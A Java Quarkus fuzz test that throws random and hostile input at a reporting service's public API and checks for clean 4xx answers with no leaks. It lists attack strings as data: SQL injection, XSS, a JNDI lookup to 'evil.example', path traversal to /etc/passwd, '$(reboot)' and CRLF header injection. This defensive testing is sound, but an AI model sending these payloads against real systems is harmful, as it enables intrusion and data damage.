package nl.sglzorg.meldpunt.security;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.narayana.jta.QuarkusTransaction;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;
import io.restassured.http.ContentType;
import io.restassured.response.Response;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import nl.sglzorg.meldpunt.TestData;
import nl.sglzorg.meldpunt.ticket.EventType;
import nl.sglzorg.meldpunt.ticket.Ticket;
import nl.sglzorg.meldpunt.ticket.TicketEvent;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/**
 * Random and hostile input at every public endpoint — wrong types, huge
 * strings, JSON nested 10,000 deep, invalid UTF-8, raw control characters, SQL and script
 * fragments, unknown properties, duplicate keys, numbers out of range, odd content types, mangled
 * paths and headers. Whatever arrives: never a {@code 5xx}, never a stack trace or class name in the
 * answer, and nothing stored when the answer is a {@code 4xx}.
 *
 * <p>Driven by a seeded {@link Random} inside a {@code @QuarkusTest}, not by jqwik: jqwik's engine
 * runs its properties outside the Quarkus JUnit extension, so the application would not be started
 * for them. Every run throws the same cases ({@link #SEED}; another seed with
 * {@code -Dhostile.seed=…}), and a failure names the seed and the case. Requests go over a plain
 * socket, so that bytes no HTTP client would send (invalid UTF-8, raw control characters, broken
 * percent-encoding) really arrive. They come from 127.0.0.1 without {@code X-Forwarded-For}, which
 * the test profile exempts from the abuse limits. About 430 requests in all.
 */
@QuarkusTest
class HostileInputProperties {

    static final long SEED = Long.getLong("hostile.seed", 20261124L);

    private static final String SIGNALS = "/api/signals";
    private static final String PREVIEW = "/api/routing/preview";

    /** What only a leaked class name, package or stack trace would put in an answer. */
    private static final List<String> INTERNALS = List.of("Exception", "java.", "javax.", "jakarta.",
            "com.fasterxml", "org.jboss", "org.hibernate", "org.h2", "io.quarkus", "io.vertx", "io.netty",
            "nl.sglzorg", "\tat ", "Caused by", "SignalRequest", "MessageRequest", "SQLState", "JDBC");

    /** Fragments a hostile client tries; legal in a description, so they may be stored when valid. */
    private static final List<String> FRAGMENTS = List.of(
            "' OR '1'='1", "'; DROP TABLE ticket; --", "\" OR \"\"=\"", "1; SELECT * FROM staff_user",
            "' UNION SELECT password_hash FROM staff_user --", "admin'--", "%' AND 1=0 UNION SELECT 1 --",
            "<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "javascript:alert(1)",
            "<svg onload=alert(1)>", "{{7*7}}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}",
            "%s%s%s%n", "../../../../etc/passwd", "..\\..\\windows\\win.ini", "$(reboot)", "`id`",
            "\u202Egnp.exe", "\u200B\u200C\u200D\uFEFF", "Z\u0351\u0358\u0361a\u0359\u0364l\u0363go",
            "\uD83D\uDE00\uD83D\uDCA9", "\u0000", "\\u0000", "\r\nSet-Cookie: a=b", "null", "undefined",
            "NaN", "true", "[]", "{}", "__proto__", "constructor", "@class", "java.lang.Runtime",
            "ｓｅｌｅｃｔ", "İıﬃß", "\\", "\"", "'", "<!--", "]]>", "&amp;&lt;", "%00", "%0d%0a");

    private static final List<String> NUMBERS = List.of("1e400", "-1e400", "1e-400", "99999999999999999999999999999",
            "-99999999999999999999999999999", "-0", "0.0000000000000000000000001", "9223372036854775808",
            "-9223372036854775809", "2147483648", "1.7976931348623157e309", "0x10", "NaN", "Infinity", "-Infinity",
            "01", "1.", ".5", "-", "+1", "1e", "1_000");

    private static final List<String> INSTANTS = List.of("+1000000000-01-01T00:00:00Z", "-1000000001-01-01T00:00:00Z",
            "-999999999-01-01T00:00:00Z", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "1970-01-01T00:00:00Z",
            "1900-02-29T00:00:00Z", "2026-13-01T00:00:00Z", "2026-11-24T24:00:00Z", "2026-11-24T23:59:60Z",
            "2026-11-24T09:00:00+25:00", "2026-11-24T09:00:00.1234567891Z", "+2026-11-24T09:00:00Z", "now", "",
            "2026-11-24T09:00:00Z\u0000", "9999-12-31T23:59:59.999999999Z", "-0001-01-01T00:00:00Z");

    private static final List<String> URLS = List.of("https://", "https://xn--/", "https://xn--zz-bbb/p",
            "https://[::1]/x", "https://[::1/x", "https://a..b/p", "https://" + "a".repeat(300) + ".nl/",
            "https://例え.jp/パス", "https://host:99999/p", "https://user:pw@host:-1/p", "https://%zz/p",
            "https://facebook.com/%", "https://facebook.com/%zz", "https://facebook.com/?%=&&&=%", "https://-/",
            "http://0x7f.1/", "https://facebook.com/\u0000", "https://facebook.com/ p", "https:///////",
            "https://facebook.com:/p", "https://facebook.com/" + "p/".repeat(1000), "HTTPS://FACEBOOK.COM/%2e%2e/",
            "https://facebook.com/#" + "x".repeat(100), "https://\uFF46acebook.com/", "https://facebook.com/?s=" + "&s=1".repeat(300));

    private static final List<String> ODD_CONTENT_TYPES = List.of("application/json; charset=UTF-16",
            "application/json; charset=bogus", "application/json; charset=", "application/json;;;",
            "APPLICATION/JSON", "application/json, text/plain", "application/x-json", "", "*/*",
            "application/json; charset=ISO-8859-1", "application/json; boundary=--x", "text/json",
            "application/problem+json", "multipart/form-data; boundary=x", "application/json\u0000");

    private static final String[] SIGNAL_FIELDS = {"category", "platform", "topic", "url", "description",
            "observedAt", "region", "activityCentre", "reporter", "wantsUpdates", "language"};

    private String reference;
    private String token;
    private final List<String> failures = new ArrayList<>();
    private final Map<Integer, Integer> statuses = new java.util.TreeMap<>();

    @BeforeEach
    void fileOneSignal() {
        Response response = given().contentType(ContentType.JSON).body(TestData.signal("MENTION", "TWITTER"))
                .post(SIGNALS).then().statusCode(201).extract().response();
        reference = response.path("reference");
        token = response.path("trackingToken");
    }

    // ---------------------------------------------------------------------------------------------
    // the endpoints
    // ---------------------------------------------------------------------------------------------

    @Test
    void shouldNeverFailOnHostileSignals() {
        Random random = new Random(SEED);
        for (int i = 0; i < 130; i++) {
            Payload payload = signalPayload(random);
            long before = countTickets();
            Answer answer = send("POST", SIGNALS, payload.contentType(), Map.of(), payload.body());
            long stored = countTickets() - before;
            check("signal #" + i, payload, answer);
            if (answer.status() >= 400 && stored != 0) {
                fail("signal #" + i, payload, answer, stored + " ticket(s) stored with a " + answer.status());
            }
            if (answer.status() == 201 && stored != 1) {
                fail("signal #" + i, payload, answer, stored + " tickets stored for one 201");
            }
            if (answer.status() == 201) {
                readBack("signal #" + i, payload, answer);
            }
        }
        report();
    }

    @Test
    void shouldNeverFailOnAnyListedHostileValueInASignal() {
        // The random cases pick from these lists; here each is thrown once, whatever the seed.
        List<Payload> payloads = new ArrayList<>();
        Random random = new Random(SEED + 5);
        for (String instant : INSTANTS) {
            Map<String, String> fields = validSignal(random);
            fields.put("observedAt", quote(instant));
            payloads.add(new Payload("observedAt " + instant, object(fields)));
        }
        for (String url : URLS) {
            Map<String, String> fields = validSignal(random);
            fields.put("url", quote(url));
            payloads.add(new Payload("url " + abbreviate(url), object(fields)));
        }
        for (String number : NUMBERS) {
            Map<String, String> fields = validSignal(random);
            fields.put(pick(random, List.of("category", "description", "observedAt", "wantsUpdates", "url")), number);
            payloads.add(new Payload("number " + number, object(fields)));
        }
        for (String type : ODD_CONTENT_TYPES) {
            payloads.add(new Payload("content type '" + type + "'",
                    object(validSignal(random)).getBytes(StandardCharsets.UTF_8), type));
        }
        for (byte[] bad : invalidUtf8()) {
            String body = object(validSignal(random));
            payloads.add(new Payload("invalid UTF-8 " + hex(bad), splice(body.getBytes(StandardCharsets.UTF_8),
                    body.indexOf("sociale"), bad), "application/json"));
        }
        for (int depth : List.of(1_000, 10_000)) {
            payloads.add(new Payload("arrays nested " + depth, "[".repeat(depth) + "]".repeat(depth)));
            payloads.add(new Payload("objects nested " + depth, "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)));
            Map<String, String> fields = validSignal(random);
            fields.put("reporter", "{\"name\":" + "[".repeat(depth) + "]".repeat(depth) + "}");
            payloads.add(new Payload("reporter.name nested " + depth, object(fields)));
        }
        for (int i = 0; i < payloads.size(); i++) {
            Payload payload = payloads.get(i);
            long before = countTickets();
            Answer answer = send("POST", SIGNALS, payload.contentType(), Map.of(), payload.body());
            long stored = countTickets() - before;
            check("listed #" + i, payload, answer);
            if (answer.status() >= 400 && stored != 0) {
                fail("listed #" + i, payload, answer, stored + " ticket(s) stored with a " + answer.status());
            }
            if (answer.status() == 201) {
                readBack("listed #" + i, payload, answer);
            }
        }
        report();
    }

    @Test
    void shouldNeverFailOnHostileRoutingPreviews() {
        Random random = new Random(SEED + 1);
        long before = countTickets();
        for (int i = 0; i < 60; i++) {
            Payload payload = signalPayload(random);
            check("preview #" + i, payload, send("POST", PREVIEW, payload.contentType(), Map.of(), payload.body()));
        }
        if (countTickets() != before) {
            failures.add("a preview stored a ticket");
        }
        report();
    }

    @Test
    void shouldNeverFailOnHostileMessages() {
        Random random = new Random(SEED + 2);
        for (int i = 0; i < 70; i++) {
            Payload payload = messagePayload(random);
            // mostly the real reference and token, so the body gets read; now and then a hostile one
            String ref = random.nextInt(5) == 0 ? hostilePathSegment(random) : reference;
            String tok = random.nextInt(6) == 0 ? hostileHeaderValue(random) : token;
            long before = countMessages();
            Answer answer = send("POST", SIGNALS + "/" + ref + "/messages", payload.contentType(),
                    Map.of("X-Tracking-Token", tok), payload.body());
            long stored = countMessages() - before;
            check("message #" + i + " to " + abbreviate(ref), payload, answer);
            if (answer.status() >= 400 && stored != 0) {
                fail("message #" + i, payload, answer, stored + " message(s) stored with a " + answer.status());
            }
        }
        report();
    }

    @Test
    void shouldNeverFailOnHostileTrackingLookUps() {
        Random random = new Random(SEED + 3);
        long tickets = countTickets();
        long messages = countMessages();
        for (int i = 0; i < 50; i++) {
            String ref = random.nextBoolean() ? hostilePathSegment(random) : reference;
            String tok = random.nextInt(4) == 0 ? token : hostileHeaderValue(random);
            Payload label = new Payload("GET " + abbreviate(ref) + " token " + abbreviate(tok), null, null);
            Answer answer = send("GET", SIGNALS + "/" + ref, null, Map.of("X-Tracking-Token", tok), null);
            check("tracking #" + i, label, answer);
            if (ref.equals(reference) && tok.equals(token) && answer.status() != 200) {
                fail("tracking #" + i, label, answer, "the right token no longer works");
            }
        }
        if (countTickets() != tickets || countMessages() != messages) {
            failures.add("a tracking look-up stored something");
        }
        report();
    }

    @Test
    void shouldNeverFailOnHostileFunctionCodes() {
        Random random = new Random(SEED + 4);
        long tickets = countTickets();
        for (int i = 0; i < 40; i++) {
            String code = hostilePathSegment(random);
            Payload label = new Payload("GET /api/functions/" + abbreviate(code), null, null);
            Answer answer = send("GET", "/api/functions/" + code, null,
                    random.nextInt(5) == 0 ? Map.of("Accept", hostileHeaderValue(random)) : Map.of(), null);
            check("function #" + i, label, answer);
        }
        // and the real ones still answer
        Answer real = send("GET", "/api/functions/COMMUNICATIONS", null, Map.of(), null);
        check("function COMMUNICATIONS", new Payload("COMMUNICATIONS", null, null), real);
        if (real.status() != 200) {
            failures.add("GET /api/functions/COMMUNICATIONS answered " + real.status());
        }
        if (countTickets() != tickets) {
            failures.add("a function look-up stored a ticket");
        }
        report();
    }

    // ---------------------------------------------------------------------------------------------
    // payloads
    // ---------------------------------------------------------------------------------------------

    /** A body and the content type it is sent as; {@code label} says what was thrown. */
    record Payload(String label, byte[] body, String contentType) {
        Payload(String label, String body) {
            this(label, body.getBytes(StandardCharsets.UTF_8), "application/json");
        }
    }

    private static Map<String, String> validSignal(Random random) {
        Map<String, String> fields = new LinkedHashMap<>();
        fields.put("category", quote(pick(random, List.of("MENTION", "DERAILED_DISCUSSION", "UNWANTED_CONTACT"))));
        fields.put("platform", quote(pick(random, List.of("FACEBOOK", "TWITTER", "LINKEDIN", "INSTAGRAM"))));
        fields.put("topic", quote(pick(random, List.of("GENERAL", "EMPLOYMENT", "CARE"))));
        fields.put("url", quote("https://www.facebook.com/sglzorg/posts/" + Math.abs(random.nextLong())));
        fields.put("description", quote("Er wordt op sociale media over SGL geschreven."));
        fields.put("reporter", "{\"name\":\"Jan Jansen\",\"relation\":\"EMPLOYEE\"}");
        return fields;
    }

    private Payload signalPayload(Random random) {
        Map<String, String> fields = validSignal(random);
        String field = pick(random, List.of(SIGNAL_FIELDS));
        int strategy = random.nextInt(16);
        return switch (strategy) {
            case 0 -> {
                String value = randomJson(random, 3);
                fields.put(field, value);
                yield new Payload("wrong type: " + field + "=" + abbreviate(value), object(fields));
            }
            case 1 -> {
                String string = hostileString(random);
                String target = pick(random, List.of("description", "url", "region", "activityCentre", "language",
                        "category", "reporter.name", "reporter.email", "reporter.unit", "reporter.relation"));
                if (target.startsWith("reporter.")) {
                    fields.put("reporter", "{" + quote(target.substring(9)) + ":" + quote(string) + "}");
                } else {
                    fields.put(target, quote(string));
                }
                yield new Payload("hostile string in " + target + ": " + abbreviate(string), object(fields));
            }
            case 2 -> {
                String key = pick(random, List.of("status", "priority", "reference", "trackingToken", "__proto__",
                        "constructor", "@class", "$type", "", " ", "description ", "Description", "reporter.name",
                        "id", "\u0000", hostileString(random)));
                fields.put(key, randomJson(random, 2));
                yield new Payload("unknown property " + abbreviate(key), object(fields));
            }
            case 3 -> {
                String body = object(fields);
                String duplicate = quote(field) + ":" + randomJson(random, 1);
                body = body.substring(0, body.length() - 1) + "," + duplicate + "}";
                yield new Payload("duplicate key " + field, body);
            }
            case 4 -> {
                int depth = pick(random, List.of(1_000, 5_000, 10_000));
                boolean arrays = random.nextBoolean();
                String nested = arrays ? "[".repeat(depth) + "]".repeat(depth)
                        : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
                if (random.nextBoolean()) {
                    yield new Payload("nested " + depth + (arrays ? " arrays" : " objects") + " at the top", nested);
                }
                fields.put(field, nested);
                yield new Payload("nested " + depth + (arrays ? " arrays" : " objects") + " in " + field, object(fields));
            }
            case 5 -> {
                byte[] bad = pick(random, invalidUtf8());
                String body = object(fields);
                int at = body.indexOf("sociale");
                yield new Payload("invalid UTF-8 " + hex(bad) + " in description",
                        splice(body.getBytes(StandardCharsets.UTF_8), at, bad), "application/json");
            }
            case 6 -> {
                char control = (char) random.nextInt(0x20);
                fields.put(field, "\"Er staat een " + control + " rauw in de tekst\"");
                yield new Payload("raw control character U+" + String.format("%04X", (int) control) + " in " + field,
                        object(fields));
            }
            case 7 -> {
                String number = pick(random, NUMBERS);
                String target = random.nextInt(4) == 0 ? "reporter" : field;
                fields.put(target, target.equals("reporter") ? "{\"relation\":" + number + "}" : number);
                yield new Payload("number " + number + " as " + target, object(fields));
            }
            case 8 -> {
                byte[] garbage = new byte[random.nextInt(2000)];
                random.nextBytes(garbage);
                yield new Payload(garbage.length + " random bytes", garbage, "application/json");
            }
            case 9 -> {
                String body = object(fields);
                int cut = random.nextInt(body.length());
                yield new Payload("truncated at " + cut, body.substring(0, cut));
            }
            case 10 -> {
                if (random.nextBoolean()) {
                    fields.put("description", quote("x".repeat(60_000)));
                    yield new Payload("description of 60,000 characters", object(fields));
                }
                fields.put("description", quote("x".repeat(70_000)));
                yield new Payload("body over 64 KiB", object(fields));
            }
            case 11 -> {
                String type = pick(random, ODD_CONTENT_TYPES);
                yield new Payload("content type '" + type + "'", object(fields).getBytes(StandardCharsets.UTF_8), type);
            }
            case 12 -> {
                String instant = pick(random, INSTANTS);
                fields.put("observedAt", quote(instant));
                yield new Payload("observedAt " + instant, object(fields));
            }
            case 13 -> {
                String url = pick(random, URLS);
                fields.put("url", quote(url));
                yield new Payload("url " + abbreviate(url), object(fields));
            }
            case 14 -> {
                String reporter = "{\"name\":" + quote(hostileString(random)) + ",\"email\":"
                        + quote(pick(random, List.of("a@b.nl", "\"quoted\"@example.org", "a@[127.0.0.1]", "a@-b.nl",
                                "a@b.nl\r\nBcc: x@y.nl", "a@b.nl\u0000", "x".repeat(64) + "@example.org",
                                "a@" + "b".repeat(250) + ".nl", "ü@ü.nl", "a@b"))) + ",\"unit\":"
                        + quote(pick(random, List.of("ZORG-PARKSTAD", "' OR 1=1 --", "", " ", "x".repeat(40)))) + "}";
                fields.put("reporter", reporter);
                fields.put("wantsUpdates", random.nextBoolean() ? "true" : "false");
                yield new Payload("hostile reporter " + abbreviate(reporter), object(fields));
            }
            default -> {
                fields.put("description", quote("Melding: " + pick(random, FRAGMENTS) + " " + pick(random, FRAGMENTS)));
                fields.put("region", quote(pick(random, List.of("Parkstad", "' OR 1=1 --", "<b>x</b>"))));
                yield new Payload("legal but hostile description " + abbreviate(fields.get("description")),
                        object(fields));
            }
        };
    }

    private static Payload messagePayload(Random random) {
        int strategy = random.nextInt(12);
        return switch (strategy) {
            case 0 -> new Payload("text of wrong type", "{\"text\":" + randomJson(random, 3) + "}");
            case 1 -> {
                String string = hostileString(random);
                yield new Payload("hostile text " + abbreviate(string), "{\"text\":" + quote(string) + "}");
            }
            case 2 -> new Payload("unknown property", "{\"text\":\"Nog iets\"," + quote(pick(random,
                    List.of("status", "author", "visibleToReporter", "__proto__", "@class", hostileString(random))))
                    + ":" + randomJson(random, 2) + "}");
            case 3 -> new Payload("duplicate text", "{\"text\":\"Eerste\",\"text\":" + randomJson(random, 1) + "}");
            case 4 -> {
                int depth = pick(random, List.of(1_000, 10_000));
                yield new Payload("text nested " + depth, "{\"text\":" + "[".repeat(depth) + "]".repeat(depth) + "}");
            }
            case 5 -> {
                byte[] bad = pick(random, invalidUtf8());
                byte[] body = "{\"text\":\"Nog iets\"}".getBytes(StandardCharsets.UTF_8);
                yield new Payload("invalid UTF-8 " + hex(bad), splice(body, 10, bad), "application/json");
            }
            case 6 -> {
                char control = (char) random.nextInt(0x20);
                yield new Payload("raw U+" + String.format("%04X", (int) control), "{\"text\":\"a" + control + "b\"}");
            }
            case 7 -> new Payload("text as number", "{\"text\":" + pick(random, NUMBERS) + "}");
            case 8 -> {
                byte[] garbage = new byte[random.nextInt(1000)];
                random.nextBytes(garbage);
                yield new Payload(garbage.length + " random bytes", garbage, "application/json");
            }
            case 9 -> {
                int size = pick(random, List.of(5_001, 60_000, 70_000));
                yield new Payload("text of " + size, "{\"text\":" + quote("y".repeat(size)) + "}");
            }
            case 10 -> {
                String type = pick(random, ODD_CONTENT_TYPES);
                yield new Payload("content type '" + type + "'", "{\"text\":\"Nog iets\"}".getBytes(StandardCharsets.UTF_8),
                        type);
            }
            default -> new Payload("legal but hostile text", "{\"text\":" + quote(pick(random, FRAGMENTS) + " x") + "}");
        };
    }

    private static String hostileString(Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> pick(random, FRAGMENTS);
            case 1 -> {
                StringBuilder s = new StringBuilder();
                int length = random.nextInt(300);
                for (int i = 0; i < length; i++) {
                    s.appendCodePoint(randomCodePoint(random));
                }
                yield s.toString();
            }
            case 2 -> "x".repeat(pick(random, List.of(201, 2049, 5001, 20_000)));
            case 3 -> "\uD800" + "abc" + "\uDFFF";
            case 4 -> pick(random, FRAGMENTS) + "\u0000" + pick(random, FRAGMENTS);
            default -> "\uD83D\uDE00".repeat(random.nextInt(6000));
        };
    }

    private static int randomCodePoint(Random random) {
        return switch (random.nextInt(5)) {
            case 0 -> random.nextInt(0x20);
            case 1 -> 0x20 + random.nextInt(0x5F);
            case 2 -> 0x80 + random.nextInt(0x780);
            case 3 -> 0x1F600 + random.nextInt(0x50);
            default -> {
                int cp = random.nextInt(0x10FFFF);
                yield Character.isSurrogate((char) cp) && cp <= 0xFFFF ? 0xFFFD : cp;
            }
        };
    }

    /** A JSON value of any type, strings hostile, sometimes not JSON at all. */
    private static String randomJson(Random random, int depth) {
        int kind = random.nextInt(depth > 0 ? 9 : 6);
        return switch (kind) {
            case 0 -> quote(hostileString(random));
            case 1 -> pick(random, NUMBERS);
            case 2 -> Long.toString(random.nextLong());
            case 3 -> random.nextBoolean() ? "true" : "false";
            case 4 -> "null";
            case 5 -> pick(random, List.of("undefined", "'single'", "tru", "nul", "\"unterminated", "[1,]", "{,}"));
            case 6 -> "[" + randomJson(random, depth - 1) + "," + randomJson(random, depth - 1) + "]";
            case 7 -> "{" + quote(pick(random, SIGNAL_FIELDS)) + ":" + randomJson(random, depth - 1) + "}";
            default -> "{}";
        };
    }

    private static List<byte[]> invalidUtf8() {
        return List.of(new byte[] {(byte) 0xC3, 0x28}, new byte[] {(byte) 0xFF}, new byte[] {(byte) 0xFE, (byte) 0xFF},
                new byte[] {(byte) 0xC0, (byte) 0xAF}, new byte[] {(byte) 0xE0, (byte) 0x80, (byte) 0xAF},
                new byte[] {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, new byte[] {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80},
                new byte[] {(byte) 0x80}, new byte[] {(byte) 0xE2, (byte) 0x82}, new byte[] {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80});
    }

    /** A path segment as a hostile client sends it: raw bytes, broken escapes, traversal, very long. */
    private static String hostilePathSegment(Random random) {
        return switch (random.nextInt(9)) {
            case 0 -> URLEncoder.encode(hostileString(random), StandardCharsets.UTF_8).replace("+", "%20");
            case 1 -> pick(random, List.of("%zz", "%", "%C3%28", "%00", "%FF%FE", "%ED%A0%80", "%25", "%2F", "%5C"));
            case 2 -> pick(random, List.of("..", "..%2F..%2Fetc%2Fpasswd", "%2e%2e", ".", "..;", ";x=1", "a;b", "x%3Bjsessionid=1"));
            case 3 -> "SGL-2026-" + pick(random, List.of("000001", "-1", "99999999999999999999", "000001%00", "1e9", "0x1"));
            case 4 -> "S".repeat(pick(random, List.of(300, 2000, 5000)));
            case 5 -> "SGL-2026-000001" + pick(random, List.of("'", "' OR '1'='1", "\"", "%27%20OR%201%3D1"));
            case 6 -> pick(random, List.of("sgl-2026-000001", "SGL–2026–000001", "SGL-２０２６-000001", "COMMUNICATIONS",
                    "communications", "HR_REPRESENTATIVE%20", "CARE_BROKER%0A"));
            case 7 -> new String(new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF}, StandardCharsets.ISO_8859_1);
            default -> "ü€" + random.nextInt(1000);
        };
    }

    private static String hostileHeaderValue(Random random) {
        return switch (random.nextInt(6)) {
            case 0 -> "x".repeat(pick(random, List.of(44, 1000, 8000, 20_000)));
            case 1 -> pick(random, List.of("", " ", "null", "' OR '1'='1", "<script>", "%00", "../../x"));
            case 2 -> new String(new byte[] {(byte) 0xC3, 0x28, (byte) 0xFF, (byte) 0x80}, StandardCharsets.ISO_8859_1);
            case 3 -> "abc\u0001def\u007F";
            case 4 -> "tëst-tökën-ünïcödë";
            default -> Long.toString(random.nextLong(), 36);
        };
    }

    // ---------------------------------------------------------------------------------------------
    // checks
    // ---------------------------------------------------------------------------------------------

    private void check(String name, Payload payload, Answer answer) {
        statuses.merge(answer.status(), 1, Integer::sum);
        if (answer.status() == 0) {
            fail(name, payload, answer, "no HTTP answer: " + abbreviate(answer.raw()));
            return;
        }
        if (answer.status() >= 500) {
            fail(name, payload, answer, "server error");
        }
        // a 2xx may echo what the reporter wrote; an error never holds anything but our own words
        List<String> leaks = answer.status() < 300 ? List.of("\tat ", "Caused by") : INTERNALS;
        // the problem's "instance" is the path the client asked for: its own words, not ours
        String ours = withoutInstance(answer.raw());
        for (String leak : leaks) {
            if (ours.contains(leak)) {
                fail(name, payload, answer, "the answer leaks '" + leak.strip() + "'");
            }
        }
    }

    /** What was accepted can be read back: by staff, and by the reporter with the token. */
    private void readBack(String name, Payload payload, Answer answer) {
        io.restassured.path.json.JsonPath receipt;
        try {
            receipt = io.restassured.path.json.JsonPath.from(answer.body());
        } catch (RuntimeException e) {
            fail(name, payload, answer, "the 201 is no JSON receipt");
            return;
        }
        String ref = receipt.getString("reference");
        Response staff = TestData.asCommunicatie().get("/api/tickets/{reference}", ref);
        if (staff.statusCode() != 200) {
            fail(name, payload, answer, "staff read it back with " + staff.statusCode() + ": " + abbreviate(staff.asString()));
        }
        Response reporter = given().header("X-Tracking-Token", receipt.getString("trackingToken"))
                .get(SIGNALS + "/{reference}", ref);
        if (reporter.statusCode() != 200) {
            fail(name, payload, answer, "the reporter read it back with " + reporter.statusCode());
        }
    }

    /** The answer with the value of its {@code "instance"} member left out. */
    private static String withoutInstance(String raw) {
        String member = "\"instance\":\"";
        int start = raw.indexOf(member);
        if (start < 0) {
            return raw;
        }
        int i = start + member.length();
        while (i < raw.length() && raw.charAt(i) != '"') {
            i += raw.charAt(i) == '\\' ? 2 : 1;
        }
        return raw.substring(0, start + member.length()) + raw.substring(Math.min(i, raw.length()));
    }

    private void fail(String name, Payload payload, Answer answer, String why) {
        failures.add(name + " [" + payload.label() + "] → " + answer.status() + ": " + why + " | "
                + abbreviate(answer.body()));
    }

    private void report() {
        System.out.println("hostile input, seed " + SEED + ": answers by status " + statuses);
        assertTrue(failures.isEmpty(), () -> failures.size() + " hostile request(s) mishandled (seed " + SEED + "):\n"
                + String.join("\n", failures.subList(0, Math.min(25, failures.size()))));
    }

    private static long countTickets() {
        return QuarkusTransaction.requiringNew().call(() -> Ticket.count());
    }

    private static long countMessages() {
        return QuarkusTransaction.requiringNew().call(() -> TicketEvent.count("type in ?1",
                List.of(EventType.REPORTER_MESSAGE, EventType.DUPLICATE_REPORTER_MESSAGE)));
    }

    // ---------------------------------------------------------------------------------------------
    // a raw HTTP/1.1 client: sends exactly the bytes given
    // ---------------------------------------------------------------------------------------------

    record Answer(int status, String raw) {
        String body() {
            int end = raw.indexOf("\r\n\r\n");
            return end < 0 ? "" : raw.substring(end + 4);
        }
    }

    static Answer send(String method, String target, String contentType, Map<String, String> headers, byte[] body) {
        ByteArrayOutputStream request = new ByteArrayOutputStream();
        // the target as a careless client sends it: characters up to U+00FF as single raw bytes (so
        // invalid UTF-8 arrives as such), anything beyond as UTF-8
        boolean latin1 = target.chars().allMatch(c -> c <= 0xFF);
        write(request, method + " " + target + " HTTP/1.1\r\n", !latin1);
        write(request, "Host: localhost:" + RestAssured.port + "\r\nConnection: close\r\nAccept: */*\r\n", false);
        if (contentType != null) {
            write(request, "Content-Type: " + contentType + "\r\n", false);
        }
        headers.forEach((name, value) -> write(request, name + ": " + value + "\r\n", false));
        if (body != null) {
            write(request, "Content-Length: " + body.length + "\r\n", false);
        }
        write(request, "\r\n", false);
        ByteArrayOutputStream response = new ByteArrayOutputStream();
        try (Socket socket = new Socket("localhost", RestAssured.port)) {
            socket.setSoTimeout(30_000);
            OutputStream out = socket.getOutputStream();
            try {
                out.write(request.toByteArray());
                if (body != null) {
                    out.write(body);
                }
                out.flush();
            } catch (IOException e) {
                // the server may answer (413) and close before it has read everything: read that answer
            }
            InputStream in = socket.getInputStream();
            byte[] buffer = new byte[16 * 1024];
            try {
                for (int n; (n = in.read(buffer)) > 0; ) {
                    response.write(buffer, 0, n);
                }
            } catch (IOException e) {
                // a reset after the answer: keep what arrived
            }
        } catch (IOException e) {
            return new Answer(0, "connection failed: " + e);
        }
        String raw = response.toString(StandardCharsets.UTF_8);
        int status = 0;
        // HTTP/1.0 too: the HTTP layer answers a request it cannot parse (414, 431, 400) that way
        if (raw.matches("(?s)HTTP/1\\.[01] \\d{3}.*")) {
            try {
                status = Integer.parseInt(raw.substring(9, 12));
            } catch (NumberFormatException e) {
                status = 0;
            }
        }
        return new Answer(status, raw);
    }

    private static void write(ByteArrayOutputStream out, String text, boolean utf8) {
        byte[] bytes = utf8 ? text.getBytes(StandardCharsets.UTF_8) : text.getBytes(StandardCharsets.ISO_8859_1);
        out.write(bytes, 0, bytes.length);
    }

    // ---------------------------------------------------------------------------------------------
    // small helpers
    // ---------------------------------------------------------------------------------------------

    private static <T> T pick(Random random, List<T> values) {
        return values.get(random.nextInt(values.size()));
    }

    private static String pick(Random random, String[] values) {
        return values[random.nextInt(values.length)];
    }

    private static String object(Map<String, String> fields) {
        StringBuilder json = new StringBuilder("{");
        fields.forEach((key, value) -> {
            if (json.length() > 1) {
                json.append(',');
            }
            json.append(quote(key)).append(':').append(value);
        });
        return json.append('}').toString();
    }

    /** A JSON string literal: quotes, backslashes and control characters escaped, the rest as it is. */
    static String quote(String value) {
        StringBuilder json = new StringBuilder("\"");
        for (char c : value.toCharArray()) {
            switch (c) {
                case '"' -> json.append("\\\"");
                case '\\' -> json.append("\\\\");
                default -> {
                    if (c < 0x20) {
                        json.append(String.format("\\u%04x", (int) c));
                    } else {
                        json.append(c);
                    }
                }
            }
        }
        return json.append('"').toString();
    }

    private static byte[] splice(byte[] body, int at, byte[] insert) {
        byte[] result = new byte[body.length + insert.length];
        System.arraycopy(body, 0, result, 0, at);
        System.arraycopy(insert, 0, result, at, insert.length);
        System.arraycopy(body, at, result, at + insert.length, body.length - at);
        return result;
    }

    private static String hex(byte[] bytes) {
        StringBuilder s = new StringBuilder();
        for (byte b : bytes) {
            s.append(String.format(Locale.ROOT, "%02X", b & 0xFF));
        }
        return s.toString();
    }

    private static String abbreviate(String s) {
        String printable = s.replaceAll("\\p{Cntrl}", "?");
        return printable.length() <= 160 ? printable : printable.substring(0, 160) + "…(" + s.length() + ")";
    }
}
